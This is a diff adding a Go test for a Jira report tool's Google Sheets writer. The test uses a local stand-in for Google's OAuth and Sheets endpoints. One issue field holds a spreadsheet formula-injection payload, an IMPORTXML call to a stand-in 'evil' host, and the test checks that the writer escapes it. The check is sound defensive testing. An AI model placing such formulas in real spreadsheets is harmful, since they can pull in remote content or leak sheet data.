@@ -0,0 +1,212 @@
+package main
+
+import (
+	"crypto"
+	"crypto/rand"
+	"crypto/rsa"
+	"crypto/sha256"
+	"crypto/x509"
+	"encoding/base64"
+	"encoding/json"
+	"encoding/pem"
+	"io/ioutil"
+	"net/http"
+	"net/http/httptest"
+	"os"
+	"path/filepath"
+	"reflect"
+	"strings"
+	"testing"
+)
+
+// googleSheetsStandIn is a local stand-in of the Google OAuth token endpoint and of the Sheets API
+type googleSheetsStandIn struct {
+	t        *testing.T
+	key      *rsa.PrivateKey
+	tokenURI string
+	calls    []string
+	values   [][]interface{}
+	requests []map[string]interface{}
+}
+
+func (s *googleSheetsStandIn) ServeHTTP(w http.ResponseWriter, r *http.Request) {
+	if r.URL.Path == "/token" {
+		s.calls = append(s.calls, "token")
+		s.checkAssertion(r)
+		w.Write([]byte(`{"access_token":"access-token","expires_in":3600}`))
+		return
+	}
+
+	if got := r.Header.Get("Authorization"); got != "Bearer access-token" {
+		s.t.Errorf("%s %s: Authorization = %q, want the exchanged token", r.Method, r.URL.Path, got)
+	}
+
+	switch call := r.Method + " " + r.URL.Path; call {
+	case "GET /v4/spreadsheets/spreadsheet-id":
+		s.calls = append(s.calls, "sheet")
+		w.Write([]byte(`{"sheets":[{"properties":{"sheetId":0,"title":"Other"}},{"properties":{"sheetId":7,"title":"Tab"}}]}`))
+	case "POST /v4/spreadsheets/spreadsheet-id/values/'Tab':clear":
+		s.calls = append(s.calls, "clear")
+		w.Write([]byte(`{}`))
+	case "PUT /v4/spreadsheets/spreadsheet-id/values/'Tab'!A1":
+		s.calls = append(s.calls, "update")
+
+		if got := r.URL.Query().Get("valueInputOption"); got != "USER_ENTERED" {
+			s.t.Errorf("update valueInputOption = %q, want USER_ENTERED", got)
+		}
+
+		body := struct{ Values [][]interface{} }{}
+		json.NewDecoder(r.Body).Decode(&body)
+		s.values = body.Values
+		w.Write([]byte(`{}`))
+	case "POST /v4/spreadsheets/spreadsheet-id:batchUpdate":
+		s.calls = append(s.calls, "batchUpdate")
+
+		body := struct{ Requests []map[string]interface{} }{}
+		json.NewDecoder(r.Body).Decode(&body)
+		s.requests = body.Requests
+		w.Write([]byte(`{}`))
+	default:
+		s.t.Errorf("unexpected request %s", call)
+		w.WriteHeader(http.StatusNotFound)
+	}
+}
+
+// checkAssertion verifies the JWT bearer assertion of the token exchange
+func (s *googleSheetsStandIn) checkAssertion(r *http.Request) {
+	if got := r.PostFormValue("grant_type"); got != "urn:ietf:params:oauth:grant-type:jwt-bearer" {
+		s.t.Errorf("token grant_type = %q", got)
+	}
+
+	parts := strings.Split(r.PostFormValue("assertion"), ".")
+
+	if len(parts) != 3 {
+		s.t.Fatalf("token assertion has %d parts, want 3", len(parts))
+	}
+
+	signature, _ := base64.RawURLEncoding.DecodeString(parts[2])
+	digest := sha256.Sum256([]byte(parts[0] + "." + parts[1]))
+
+	if err := rsa.VerifyPKCS1v15(&s.key.PublicKey, crypto.SHA256, digest[:], signature); err != nil {
+		s.t.Errorf("token assertion signature: %s", err)
+	}
+
+	header, claims := map[string]interface{}{}, map[string]interface{}{}
+	data, _ := base64.RawURLEncoding.DecodeString(parts[0])
+	json.Unmarshal(data, &header)
+	data, _ = base64.RawURLEncoding.DecodeString(parts[1])
+	json.Unmarshal(data, &claims)
+
+	if header["alg"] != "RS256" || header["kid"] != "key-id" {
+		s.t.Errorf("token assertion header = %v", header)
+	}
+
+	if claims["iss"] != "report@example.iam.gserviceaccount.com" || claims["aud"] != s.tokenURI || claims["scope"] != "https://www.googleapis.com/auth/spreadsheets" {
+		s.t.Errorf("token assertion claims = %v", claims)
+	}
+}
+
+func TestGoogleSheetsWriter(t *testing.T) {
+	key, err := rsa.GenerateKey(rand.Reader, 2048)
+
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	standIn := &googleSheetsStandIn{t: t, key: key}
+	server := httptest.NewServer(standIn)
+	defer server.Close()
+
+	standIn.tokenURI = server.URL + "/token"
+
+	der, err := x509.MarshalPKCS8PrivateKey(key)
+
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	credentials, err := json.Marshal(map[string]string{
+		"type":           "service_account",
+		"client_email":   "report@example.iam.gserviceaccount.com",
+		"private_key_id": "key-id",
+		"private_key":    string(pem.EncodeToMemory(&pem.Block{Type: "PRIVATE KEY", Bytes: der})),
+		"token_uri":      standIn.tokenURI,
+	})
+
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	dir, err := ioutil.TempDir("", "jiracsv")
+
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	defer os.RemoveAll(dir)
+
+	config := &Configuration{}
+	config.Google.Credentials = filepath.Join(dir, "credentials.json")
+	config.Google.URL = server.URL + "/v4/"
+
+	if err := ioutil.WriteFile(config.Google.Credentials, credentials, 0600); err != nil {
+		t.Fatal(err)
+	}
+
+	profile := &SearchProfile{ID: "profile"}
+	profile.Sheet.Spreadsheet = "spreadsheet-id"
+	profile.Sheet.Tab = "Tab"
+
+	w, err := newProfileGoogleSheetsWriter(config, profile)
+
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	w.WriteHeader(nil)
+	w.WriteComponent("Component")
+	w.WriteIssue([]interface{}{Link{"https://jira.example.com/browse/PROJ-1", "PROJ-1"}, `=IMPORTXML("http://evil","//a")`})
+	w.WriteIssue([]interface{}{Link{"https://jira.example.com/browse/PROJ-2", "PROJ-2"}, "Summary"})
+	w.WriteComponent(UnassignedComponent)
+	w.WriteIssue([]interface{}{Link{"https://jira.example.com/browse/PROJ-3", "PROJ-3"}, "Summary"})
+
+	if err := w.Close(); err != nil {
+		t.Fatal(err)
+	}
+
+	if want := []string{"token", "sheet", "clear", "update", "batchUpdate"}; !reflect.DeepEqual(standIn.calls, want) {
+		t.Errorf("requests = %v, want %v", standIn.calls, want)
+	}
+
+	wantValues := [][]interface{}{
+		{"Component"},
+		{`=HYPERLINK("https://jira.example.com/browse/PROJ-1","PROJ-1")`, `'=IMPORTXML("http://evil","//a")`},
+		{`=HYPERLINK("https://jira.example.com/browse/PROJ-2","PROJ-2")`, "Summary"},
+		{UnassignedComponent},
+		{`=HYPERLINK("https://jira.example.com/browse/PROJ-3","PROJ-3")`, "Summary"},
+	}
+
+	if !reflect.DeepEqual(standIn.values, wantValues) {
+		t.Errorf("values = %v, want %v", standIn.values, wantValues)
+	}
+
+	bold := [][]interface{}{}
+
+	for _, r := range standIn.requests {
+		repeat := r["repeatCell"].(map[string]interface{})
+		rowRange := repeat["range"].(map[string]interface{})
+		textFormat := repeat["cell"].(map[string]interface{})["userEnteredFormat"].(map[string]interface{})["textFormat"].(map[string]interface{})
+
+		bold = append(bold, []interface{}{rowRange["sheetId"], rowRange["startRowIndex"], rowRange["endRowIndex"], textFormat["bold"]})
+	}
+
+	wantBold := [][]interface{}{
+		{7.0, nil, nil, false},
+		{7.0, 0.0, 1.0, true},
+		{7.0, 3.0, 4.0, true},
+	}
+
+	if !reflect.DeepEqual(bold, wantBold) {
+		t.Errorf("bold ranges = %v, want %v", bold, wantBold)
+	}
+}